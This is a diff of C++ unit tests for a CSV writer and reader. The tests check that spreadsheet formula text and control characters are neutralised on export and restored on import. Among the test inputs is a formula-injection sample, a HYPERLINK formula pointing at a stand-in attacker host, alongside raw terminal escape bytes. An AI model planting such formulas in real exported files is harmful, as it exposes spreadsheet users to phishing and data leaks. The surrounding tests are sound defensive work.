@@ -65,12 +65,12 @@ TEST_F(CsvTest, RoundTripEveryTypeInOneFile) {
 TEST_F(CsvTest, WriterQuotesOnlyWhatNeedsIt) {
   Event e = SampleEvent(EventType::kContractClosed);
   e.note.clear();
-  e.reason = "said \"done\", finally\r\nbye";
+  e.reason = "said \"done\", finally; bye";
   CsvOutputOptions options;
   options.assigned_fields = false;
   std::string row;
   AppendEventCsv(e, options, nullptr, &row);
-  EXPECT_NE(row.find(",\"said \"\"done\"\", finally\r\nbye\","), std::string::npos) << row;
+  EXPECT_NE(row.find(",\"said \"\"done\"\", finally; bye\","), std::string::npos) << row;
   EXPECT_NE(row.find(",alice@example.com,"), std::string::npos) << row;
   std::string csv;
   AppendCsvHeader(options, &csv);
@@ -79,6 +79,83 @@ TEST_F(CsvTest, WriterQuotesOnlyWhatNeedsIt) {
   ASSERT_TRUE(r.status.ok()) << r.status.ToString();
   ASSERT_EQ(r.events.size(), 1u);
   EXPECT_EQ(r.events[0], e);
+}
+
+// Text a spreadsheet would run (= + - @ first) gets a leading ' and control
+// characters (C0, DEL, C1, line ends too) never leave raw: such a cell is '
+// then the text as a JSON string. Import undoes both, so the export of any
+// event re-imports as that same event.
+TEST_F(CsvTest, FormulaAndControlCharactersAreNeutralisedAndRoundTrip) {
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {R"c(=HYPERLINK("http://evil.example/?x","click"))c",
+       R"c("'=HYPERLINK(""http://evil.example/?x"",""click"")")c"},
+      {"+1", "'+1"},
+      {"-2+3", "'-2+3"},
+      {"@SUM(A1)c", "'@SUM(A1)c"},
+      {"'=already quoted", "''=already quoted"},
+      {"''", "'''"},
+      {R"c('"x)c", R"c("''""x")c"},
+      {"'tis", "'tis"},
+      {"'", "'"},
+      {"a=b", "a=b"},
+      {"red\x1b[31m\x01", R"c("'""red\u001b[31m\u0001""")c"},
+      {std::string("nul\0byte", 8), R"c("'""nul\u0000byte""")c"},
+      {"\tlead", R"c("'""\u0009lead""")c"},
+      {"two\r\nlines \\ \"q\"", R"c("'""two\u000d\u000alines \\ \""q\""""")c"},
+      {"del\x7f c1\xc2\x9b", R"c("'""del\u007f c1\u009b""")c"},
+  };
+  CsvOutputOptions options;
+  options.assigned_fields = false;
+  std::string csv;
+  AppendCsvHeader(options, &csv);
+  std::vector<Event> written;
+  for (const auto& [text, cell] : cases) {
+    Event e = SampleEvent(EventType::kContractOpened);
+    e.customer = text;
+    e.note = text;
+    std::string row;
+    AppendEventCsv(e, options, nullptr, &row);
+    EXPECT_NE(row.find("," + cell + ","), std::string::npos) << text << "\n" << row;
+    csv += row;
+    written.push_back(e);
+  }
+  for (size_t i = 0; i < csv.size(); ++i) {
+    const auto c = static_cast<unsigned char>(csv[i]);
+    const bool line_end = (c == '\r' && csv[i + 1] == '\n') || (c == '\n' && csv[i - 1] == '\r');
+    EXPECT_TRUE(line_end || (c >= 0x20 && c != 0x7f)) << "raw control byte at " << i;
+  }
+  const ReadResult r = ReadAll(csv);
+  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
+  ASSERT_EQ(r.events.size(), written.size());
+  for (size_t i = 0; i < written.size(); ++i) EXPECT_EQ(r.events[i], written[i]) << cases[i].first;
+}
+
+// What import makes of a leading quote in a CSV written by hand: one ' is
+// removed only before = + - @ ' (the neutralising prefix); '" starts an
+// escaped cell, which must be complete and well-formed.
+TEST_F(CsvTest, ImportOfALeadingQuote) {
+  const std::string header = std::string(kBookingHeader) + ",note\n";
+  auto note_of = [&](const std::string& cell, std::string* note) {
+    const ReadResult r = ReadAll(header + kBookingRow + "," + cell + "\n");
+    if (!r.status.ok()) return r.status;
+    *note = r.events.at(0).note;
+    return Status::OK();
+  };
+  std::string note;
+  ASSERT_TRUE(note_of("'tis", &note).ok());
+  EXPECT_EQ(note, "'tis");
+  ASSERT_TRUE(note_of("'=1+1", &note).ok());
+  EXPECT_EQ(note, "=1+1");
+  ASSERT_TRUE(note_of("'''", &note).ok());
+  EXPECT_EQ(note, "''");
+  ASSERT_TRUE(note_of(R"c("'""a\u0009b""")c", &note).ok());
+  EXPECT_EQ(note, "a\tb");
+  for (const char* bad_cell : {R"c("'""a\tb""")c", R"c("'""a\u0041b""")c", R"c("'""a\u001Bb""")c",
+                               R"c("'""open")c", R"c("'""a"b""")c"}) {
+    const Status bad = note_of(bad_cell, &note);
+    EXPECT_TRUE(bad.IsInvalidArgument()) << bad_cell;
+    EXPECT_NE(bad.message().find("line 2, column 'note'"), std::string::npos) << bad.message();
+  }
 }
 
 TEST_F(CsvTest, FixedTypeWithoutTypeColumn) {
